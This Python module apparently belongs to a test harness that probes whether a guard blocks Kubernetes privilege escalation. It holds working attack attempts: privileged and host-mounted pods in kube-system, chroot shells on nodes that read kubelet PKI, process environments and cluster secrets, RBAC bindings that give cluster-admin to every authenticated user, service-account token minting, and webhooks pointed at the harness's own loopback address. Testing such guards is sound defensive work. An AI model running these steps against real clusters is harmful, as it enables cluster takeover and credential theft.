"""Ways to more rights: containers that reach their node, roles, tokens, other APIs within the API."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any, ClassVar

from .route import Known, ProbeResult, Route

if TYPE_CHECKING:
    from .place import Place

MARK = "night-shift"
# Namespaces that are not those of the application.
FOREIGN = ("default", "kube-system")
JSON_PATCH = "application/json-patch+json"
MERGE_PATCH = "application/merge-patch+json"


def pod(name: str, **spec: Any) -> dict[str, Any]:
    """A pod that sleeps."""
    container: dict[str, Any] = {"name": "c", "image": "busybox:1.36", "command": ["sleep", "3600"]}
    container |= spec.pop("container", {})
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name},
        "spec": {"containers": [container], **spec},
    }


# What a node could tell of the harness, of hidden pods and of others' rights.
HOST_LINES = (
    # Short ones first: of a long answer only the first page is seen.
    "ls /var/log/pods /var/log/containers; cat /proc/[0-9]*/cmdline",
    "ps auxww; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline",
    "crictl ps -a; crictl images; ctr -n k8s.io containers ls; ip link; iptables-save; ss -antp",
    "journalctl --no-pager; dmesg; cat /var/log/containers/* /var/log/pods/*/*/*",
    "find / -xdev; cat /root/.*; cat /root/* /tmp/* /home/*/*",
    "cat /var/lib/kubelet/pods/*/volumes/*/*/*; find /var/lib/kubelet/pods -type f -exec cat {} +",
    "cat /etc/kubernetes/*.conf /etc/kubernetes/pki/* /var/lib/kubelet/pki/* /var/lib/kube-proxy/*",
    "kubectl --kubeconfig /etc/kubernetes/kubelet.conf get secrets -A -o yaml",
)


class NodeAccess(Route):
    """Containers that reach the machine below them."""

    name: ClassVar[str] = "privileged-containers"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Create them in every way, and change what is there into them."""
        host = [{"name": "h", "hostPath": {"path": "/"}}]
        kinds: tuple[dict[str, Any], ...] = (
            {"container": {"securityContext": {"privileged": True}}},
            {"hostPID": True},
            {"hostNetwork": True},
            {"hostIPC": True},
            {"volumes": host},
        )
        base = f"/api/v1/namespaces/{place.namespace}/pods"
        for number, spec in enumerate(kinds):
            made = pod(f"{MARK}-{number}", **spec)
            for namespace in (place.namespace, *FOREIGN):
                result.take(place.api(f"/api/v1/namespaces/{namespace}/pods", "POST", made)[1])
            result.take(place.kubectl("apply", "-f", "-", stdin=json.dumps(made)))
            result.take(place.tool("kubectl", command="create -f -", stdin=json.dumps(made)))
            self._as_yaml(place, result, base, number, made)
        self._patched(place, result)
        first = next(iter(place.nodes()), "node")
        result.take(place.kubectl("debug", f"node/{first}", "--image=busybox", "--", "true"))
        for number in range(2 * len(kinds)):
            # What the guard's own record of this look says decides.
            for namespace in (place.namespace, *FOREIGN):
                place.api(f"/api/v1/namespaces/{namespace}/pods/{MARK}-{number}")

    def _as_yaml(
        self, place: Place, result: ProbeResult, base: str, number: int, made: Any
    ) -> None:
        made["metadata"]["name"] = f"{MARK}-{number + 5}"
        text = json.dumps(made).replace('": ', '" : ')
        flow = f"# a comment\n{text}".encode()
        result.take(place.api(base, "POST", flow, Content_Type="application/yaml")[1])
        for kind in ("application/vnd.kubernetes.protobuf", "application/cbor"):
            result.take(place.api(base, "POST", flow, Content_Type=kind)[1])
        applied = f"{base}/{MARK}-{number + 5}?fieldManager=x&force=true"
        result.take(
            place.api(applied, "PATCH", flow, Content_Type="application/apply-patch+yaml")[1]
        )

    def _patched(self, place: Place, result: ProbeResult) -> None:
        deployments = f"/apis/apps/v1/namespaces/{place.namespace}/deployments"
        listed = place.api(f"{deployments}?limit=1")[1].partition("\n\n")[2]
        try:
            name = json.loads(listed)["items"][0]["metadata"]["name"]
        except (ValueError, LookupError):
            return
        path = "/spec/template/spec/hostPID"
        result.take(place.api(f"{deployments}/{name}", "PATCH", [{"op": "add", "path": path, "value": True}], Content_Type=JSON_PATCH)[1])  # fmt: skip
        content = {"spec": {"template": {"spec": {"hostNetwork": True}}}}
        result.take(
            place.api(f"{deployments}/{name}", "PATCH", content, Content_Type=MERGE_PATCH)[1]
        )

    def leaked(self, result: ProbeResult, known: Known) -> str:
        """None may exist where that is not said to be allowed."""
        allowed = any("except in pods of their own" in refused for *_, refused in known.requests)
        for method, path, status, _ in known.requests:
            foreign = any(f"/namespaces/{name}/pods/{MARK}-" in path for name in FOREIGN)
            seen = method == "GET" and f"/pods/{MARK}-" in path and status == 200
            if seen and (foreign or not allowed):
                return f"a container that reaches its node was made: {path}"
            changed = method == "PATCH" and "/deployments/" in path and status == 200
            if changed and MARK not in path:
                return f"a workload was changed to reach its node: {path}"
        return known.found(result.texts)


class NodeShells(Route):
    """What root on a node can read there."""

    name: ClassVar[str] = "node-shells"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """As root on each node, by a pod of one's own, where that is allowed."""
        for number, node in enumerate(place.nodes()):
            name = f"{MARK}-root-{number}"
            container = {
                "securityContext": {"privileged": True},
                "volumeMounts": [{"name": "h", "mountPath": "/host"}],
            }
            volumes = [{"name": "h", "hostPath": {"path": "/"}}]
            made = pod(name, container=container, volumes=volumes, hostPID=True, nodeName=node)
            base = f"/api/v1/namespaces/{place.namespace}/pods"
            if place.api(base, "POST", made)[0] not in (200, 201):
                return
            place.tool("wait", seconds=15)
            for line in HOST_LINES:
                words = f"exec {name} -n {place.namespace} -- chroot /host bash -c '{line}'"
                result.take(place.tool("kubectl", command=words))
            place.api(f"{base}/{name}", "DELETE")


class Kubelet(Route):
    """Proxies of the API server: through nodes, services and pods."""

    name: ClassVar[str] = "proxies"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Ask through them."""
        name = next(iter(place.nodes()), "node")
        for node in (name, f"{name}:10250", f"https:{name}:10250"):
            for path in ("pods", "runningpods/", "logs/", "configz", "run/x/y/z", "exec/x/y/z"):
                result.take(place.api(f"/api/v1/nodes/{node}/proxy/{path}")[1])
        for target in ("https:kubernetes:443", "kubernetes"):
            result.take(place.api(f"/api/v1/namespaces/default/services/{target}/proxy/api/v1/secrets")[1])  # fmt: skip
            result.take(place.api(f"/api/v1/proxy/namespaces/default/services/{target}/api/v1/secrets")[1])  # fmt: skip
        guesses = place.guesses
        result.take(place.api(f"/api/v1/namespaces/{guesses['namespace']}/pods/{guesses['pod']}/proxy/env")[1])  # fmt: skip
        result.take(place.kubectl("get", "--raw", f"/api/v1/nodes/{name}/proxy/pods"))
        result.take(place.kubectl("get", "--raw", "/debug/pprof/"))
        result.take(place.kubectl("get", "--raw", "/logs/"))


class Escalation(Route):
    """Roles, bindings, tokens and certificates that give more than one has."""

    name: ClassVar[str] = "escalation"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Take rights, then read secrets that are not ours with them."""
        group = "rbac.authorization.k8s.io"
        everything = {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}
        admin = {"apiGroup": group, "kind": "ClusterRole", "name": "cluster-admin"}
        us: Any = [{"apiGroup": group, "kind": "Group", "name": "system:authenticated"}]
        meta: dict[str, Any] = {"name": MARK}
        root = f"/apis/{group}/v1"
        here, system = f"namespaces/{place.namespace}", "namespaces/kube-system"
        role: dict[str, Any] = {"apiVersion": f"{group}/v1", "kind": "ClusterRole", "metadata": meta, "rules": [everything]}  # fmt: skip
        binding = {"apiVersion": f"{group}/v1", "kind": "ClusterRoleBinding", "metadata": meta, "roleRef": admin, "subjects": us}  # fmt: skip
        aggregated = {**role, "rules": [], "metadata": {**meta, "labels": {f"{group.partition('.')[0]}.authorization.k8s.io/aggregate-to-view": "true"}}}  # fmt: skip
        for path, content in (
            (f"{root}/clusterroles", role),
            (f"{root}/clusterroles", aggregated),
            (f"{root}/clusterrolebindings", binding),
            (f"{root}/{here}/rolebindings", {**binding, "kind": "RoleBinding"}),
            (f"{root}/{here}/roles", {**role, "kind": "Role"}),
            (f"{root}/{system}/rolebindings", {**binding, "kind": "RoleBinding"}),
        ):
            result.take(place.api(path, "POST", content)[1])
        for name in ("on-call-cluster", "on-call-application", "view", "system:basic-user"):
            added = [{"op": "add", "path": "/rules/-", "value": everything}]
            result.take(place.api(f"{root}/clusterroles/{name}", "PATCH", added, Content_Type=JSON_PATCH)[1])  # fmt: skip
        token = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
        for account in ("default", "namespace-controller", "clusterrole-aggregation-controller"):
            path = f"/api/v1/{system}/serviceaccounts/{account}/token"
            result.take(place.api(path, "POST", token)[1])
        secret = {
            "apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
            "metadata": {**meta, "annotations": {"kubernetes.io/service-account.name": "namespace-controller"}},
        }  # fmt: skip
        result.take(place.api(f"/api/v1/{system}/secrets", "POST", secret)[1])
        result.take(place.kubectl("certificate", "approve", MARK))
        for path in ("/api/v1/secrets", f"/api/v1/{system}/secrets"):
            result.take(place.api(path)[1])
        result.take(place.kubectl("get", "secrets", "-A", "-o", "yaml"))


class FromInside(Route):
    """The API server as seen from a container, with a token of its own."""

    name: ClassVar[str] = "api-server-from-a-pod"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Ask from one that is there, and from one that is made for it."""
        here = f"/api/v1/namespaces/{place.namespace}"
        token = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
        made = place.api(f"{here}/serviceaccounts/default/token", "POST", token)[1]
        try:
            bearer = json.loads(made.partition("\n\n")[2])["status"]["token"]
        except (ValueError, LookupError):
            bearer = "none"
        names = json.loads(place.api(f"{here}/pods?limit=20")[1].partition("\n\n")[2] or "{}")
        for item in names.get("items", ())[:8]:
            name = item["metadata"]["name"]
            for program in (
                f"wget -qO- --no-check-certificate --header 'Authorization: Bearer {bearer}' https://kubernetes.default.svc/api/v1/secrets",
                f"curl -sk -m 5 -H 'Authorization: Bearer {bearer}' https://kubernetes.default.svc/api/v1/secrets",
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token; env; ls -a / /proc/1/root",
            ):
                command = f'exec {name} -n {place.namespace} -- sh -c "{program}"'
                result.take(place.tool("kubectl", command=command))


class Webhooks(Route):
    """Webhooks that call the machine of the harness, or see what passes."""

    name: ClassVar[str] = "webhooks"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Write them, in every spelling of this machine."""
        group = "admissionregistration.k8s.io"
        base = f"/apis/{group}/v1/mutatingwebhookconfigurations"
        for number, host in enumerate(
            (
                "127.0.0.1",
                "localhost",
                "[::1]",
                "0.0.0.0",  # noqa: S104 - tried, not bound
                "127.1",
                "2130706433",
                "[::ffff:127.0.0.1]",
                "x.localhost",
            )
        ):
            hook = {
                "name": f"h{number}.example.org",
                "clientConfig": {"url": f"https://{host}:8443/x"},
                "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
                "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*"], "operations": ["*"]}],
            }  # fmt: skip
            config = {
                "apiVersion": f"{group}/v1", "kind": "MutatingWebhookConfiguration",
                "metadata": {"name": f"{MARK}-hook-{number}"}, "webhooks": [hook],
            }  # fmt: skip
            result.take(place.api(base, "POST", config)[1])
            text = f"# x\n{json.dumps(config)}".encode()
            result.take(place.api(base, "POST", text, Content_Type="application/yaml")[1])
            path = f"{base}/{MARK}-hook-{number}"
            applied = f"{path}?fieldManager=x"
            result.take(place.api(applied, "PATCH", text, Content_Type="application/apply-patch+yaml")[1])  # fmt: skip
            result.take(place.kubectl("apply", "-f", "-", stdin=json.dumps(config)))
            place.api(path)
            place.api(path, "DELETE")

    def leaked(self, result: ProbeResult, known: Known) -> str:
        """None of them may exist."""
        for method, path, status, _ in known.requests:
            if method == "GET" and path.rpartition("/")[2].startswith(f"{MARK}-hook") and status == 200:  # fmt: skip
                return f"a webhook calls the machine of the harness: {path}"
        return ""
